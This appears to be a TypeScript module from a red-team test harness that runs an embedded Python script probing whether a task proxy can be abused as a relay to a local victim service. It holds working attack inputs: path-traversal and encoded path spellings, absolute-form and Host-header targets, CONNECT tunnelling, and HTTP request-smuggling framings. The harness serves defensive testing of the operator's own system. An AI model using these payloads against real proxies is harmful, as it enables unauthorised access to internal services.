import { markedLines, python, runRedTeamTask, type FinishedTask } from '../red-team-tasks.js';
import type { HostVictim } from '../host-victim.js';
import { inconclusive, result, type AttackInfo } from '../verdicts.js';
import type { AttackResult, ExerciseContext } from '../types.js';
import { MARK } from './goal-6-network.js';

/**
 * The task talks raw HTTP to its proxy (TASKCLUSTER_PROXY_URL) and tries to make it a
 * relay to the victim on this machine's loopback: path spellings, absolute-form
 * targets, a Host header naming the victim, CONNECT, and smuggled requests behind
 * ambiguous framing. Every target named is the victim's (127.0.0.1) or the control
 * plane's own path; each request is sent once, with a 5 s timeout.
 */
const RELAY = String.raw`
import os, socket, errno
from urllib.parse import urlsplit
proxy = urlsplit(os.environ['TASKCLUSTER_PROXY_URL'])
victim = '127.0.0.1:%s' % os.environ['EXERCISE_PORT']
def send(raw):
    s = socket.create_connection((proxy.hostname, proxy.port or 80), timeout=5)
    try:
        s.sendall(raw.encode('latin1'))
        got = b''
        while len(got) < 4096:
            chunk = s.recv(4096)
            if not chunk:
                break
            got += chunk
    except OSError as e:
        got = got if got else ('(%s)' % errno.errorcode.get(e.errno, str(e))).encode()
    finally:
        s.close()
    text = got.decode('latin1')
    status = text.split(' ')[1] if text.startswith('HTTP/') else text[:40] or '(closed)'
    refused = 'proxy refuses' in text or 'proxy forwards' in text
    # The control plane answers JSON with a code; an HTTP parser's own 400 has no body.
    forwarded = not refused and ('"code"' in text or status.startswith('2'))
    return status, forwarded, text.count('HTTP/1.')
def report(method, state, what):
    print('EXERCISE-6 %s %s %s' % (method, state, ' '.join(str(what).split())[:600]), flush=True)
host = 'Host: %s\r\n' % proxy.netloc
# Spellings the control plane might read differently from the proxy's check.
spellings = [
    '/api/queue/v1/../../6/proxy-path-spellings',
    '/api/queue/v1/%2e%2e/%2e%2e/6/proxy-path-spellings',
    '/api/queue/v1/%2E%2E/ping',
    '//' + victim + '/6/proxy-path-spellings',
    '/api/queue/v1//ping',
    '/api/queue/v1/..\\..\\6\\proxy-path-spellings',
    '/api/queue/v1/..%2F..%2F6%2Fproxy-path-spellings',
    '/api/queue/v1/..%252F..%252Fping',
    '/api/queue/v1/pin%67',
    '/api/%71ueue/v1/ping',
]
seen = []; forwarded = []
for target in spellings:
    status, relayed, _ = send('GET %s HTTP/1.1\r\n%sConnection: close\r\n\r\n' % (target, host))
    seen.append('%s=%s%s' % (target, status, '(forwarded)' if relayed else ''))
    if relayed:
        forwarded.append(target)
report('proxy-path-spellings', 'OPEN' if forwarded else 'SHUT', seen)
# Absolute-form targets and a Host header that name the victim.
seen = []
for raw in [
    'GET http://%s/6/proxy-absolute-form HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % (victim, victim),
    'GET http://%s/api/queue/v1/ping?/6/proxy-absolute-form HTTP/1.1\r\n%sConnection: close\r\n\r\n' % (victim, host),
    'GET /api/queue/v1/ping HTTP/1.1\r\nHost: %s\r\nX-Exercise: /6/proxy-absolute-form\r\nConnection: close\r\n\r\n' % victim,
]:
    status, _, _ = send(raw)
    seen.append('%s=%s' % (raw.split('\r\n')[0], status))
report('proxy-absolute-form', 'TRIED', seen)
# CONNECT to the victim, then a request through the tunnel.
status, _, _ = send('CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\nGET /6/proxy-connect HTTP/1.0\r\n\r\n' % (victim, victim))
report('proxy-connect', 'TRIED', 'CONNECT %s=%s' % (victim, status))
# A request hidden behind framing the proxy and the control plane might read differently.
smuggled = 'GET http://%s/6/proxy-smuggling HTTP/1.1\r\nHost: %s\r\n\r\n' % (victim, victim)
seen = []
for framing in [
    'Content-Length: 0\r\nContent-Length: %d\r\n' % len(smuggled),
    'Transfer-Encoding: chunked\r\nContent-Length: %d\r\n' % len(smuggled),
    'Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n',
    'Transfer-Encoding : chunked\r\n',
    'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n',
]:
    body = '0\r\n\r\n' + smuggled
    status, _, n = send('POST /api/queue/v1/ping HTTP/1.1\r\n%sConnection: close\r\n%s\r\n%s' % (host, framing, body))
    seen.append('%s=%s(%d answers)' % (framing.split('\r\n')[0], status, n))
report('proxy-smuggling', 'TRIED', seen)
print('EXERCISE-6 done', flush=True)
`;

const METHODS: [string, string, string[]][] = [
  ['proxy-path-spellings', 'relay a non-canonical path spelling through the proxy', ['S2', 'S12']],
  ['proxy-absolute-form', 'make the proxy relay an absolute-form target to another host', ['S7']],
  ['proxy-connect', 'open a tunnel to another host with CONNECT through the proxy', ['S7']],
  [
    'proxy-smuggling',
    'smuggle a request past the proxy (duplicate Content-Length, Transfer-Encoding tricks)',
    ['S2', 'S7'],
  ],
];

/**
 * The proxy as a relay. The victim on this machine reached by any of these is a
 * breach; so is the proxy forwarding a spelling of a path that is not the canonical one
 * (what it checked would not be what the control plane routes, S12), and
 * the victim reached by a request smuggled past it.
 */
export async function proxyRelayAttacks(
  context: ExerciseContext,
  victim: HostVictim,
  port: number,
): Promise<AttackResult[]> {
  const infos = METHODS.map(([id, title, invariants]): AttackInfo => ({
    goal: 6,
    id: `6.${id}`,
    title,
    invariants,
  }));
  let task: FinishedTask;
  try {
    task = await runRedTeamTask(context, {
      name: 'use the proxy as a relay',
      script: python(RELAY),
      proxy: true,
      env: { EXERCISE_PORT: String(port) },
    });
  } catch (err) {
    const why = `the task could not be created: ${(err as Error).message.split('\n')[0] ?? ''}`;
    return infos.map((info) => inconclusive(info, why));
  }
  const log = task.log ?? '';
  const lines = markedLines(log, MARK);
  const noProxy = /TASKCLUSTER_PROXY_URL|KeyError/.test(log) && !lines.has('proxy-connect');
  return infos.map((info) => {
    const method = info.id.slice(2);
    const line = lines.get(method);
    const hits = victim.reached(method);
    const evidence = {
      taskId: task.taskId,
      logExcerpt: line === undefined ? log.slice(-600) : `${MARK} ${method} ${line}`,
      notes: [`the victim on this machine was reached ${hits.length} time(s) by this method`],
    };
    if (hits.length > 0) {
      return result(info, 'BREACHED', 'the proxy relayed the request to the victim', evidence);
    }
    if (line === undefined) {
      const why = noProxy
        ? 'the engine offers no proxy'
        : `the task did not report (${task.state})`;
      return inconclusive(info, why, evidence);
    }
    if (line.startsWith('OPEN')) {
      return result(info, 'BREACHED', 'the proxy forwarded what it should refuse', evidence);
    }
    return result(info, 'BLOCKED', 'the proxy refused or kept the request to itself', evidence);
  });
}
